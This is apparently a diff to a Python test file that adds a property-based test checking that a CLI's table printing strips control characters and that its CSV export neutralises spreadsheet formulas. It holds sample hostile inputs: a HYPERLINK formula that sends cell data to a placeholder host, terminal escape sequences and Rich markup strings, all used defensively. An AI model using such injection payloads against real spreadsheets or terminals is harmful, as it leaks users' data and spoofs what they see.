@@ -5,9 +5,11 @@ import io
 import json
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from kg.cli import main
-from kg.textsafe import FORMULA_STARTS
+from kg.textsafe import FORMULA_STARTS, csv_cell
 
 FORMULA_TITLE = '=HYPERLINK("http://x.example/?"&A1,"click")'
 ESCAPE_TITLE = "\x1b]0;window renamed\x07\x1b[2J\x1b[HKabul falls"
@@ -64,3 +66,28 @@ def test_an_error_line_carries_no_escape_sequence(tmp_path, capsys):
     assert main(["build", str(bad), "--store", str(tmp_path / "s"), "-q"]) == 2
     err = capsys.readouterr().err
     assert "bad.txt: not UTF-8" in err and "\x1b" not in err and "\x07" not in err
+
+
+_VALUE = st.none() | st.integers() | st.floats(allow_nan=False) | st.text() | st.sampled_from(
+    ["[/quote]", "[link=http://x.example]x[/link]", "[bold red]", "\x1b]0;t\x07", "\x9b2J", "=1+1", "\t-2"])
+
+
+@given(st.lists(st.lists(_VALUE, min_size=2, max_size=2), max_size=5), st.text(max_size=20))
+@settings(max_examples=150, deadline=None)
+def test_any_table_prints_as_plain_text_and_any_csv_reads_back_cell_for_cell(rows, title):
+    from rich.console import Console
+
+    from kg.cli.base import print_table
+    from kg.sparql import QueryResult
+
+    result = QueryResult(["a", "b"], rows)
+    out = Console(file=io.StringIO(), width=300, highlight=False)
+    print_table(result, title=title, out=out)  # never a MarkupError
+    printed = out.file.getvalue()
+    assert not [c for c in printed if ord(c) < 32 and c not in "\n" or 0x7f <= ord(c) < 0xa0]
+    back = list(csv.reader(io.StringIO(result.to_csv())))
+    assert back[0] == ["a", "b"] and len(back) == len(rows) + 1
+    for written, row in zip(back[1:], rows):
+        for cell, value in zip(written, row):
+            assert cell == csv_cell(value)
+            assert not cell.startswith(FORMULA_STARTS) or isinstance(value, (int, float))
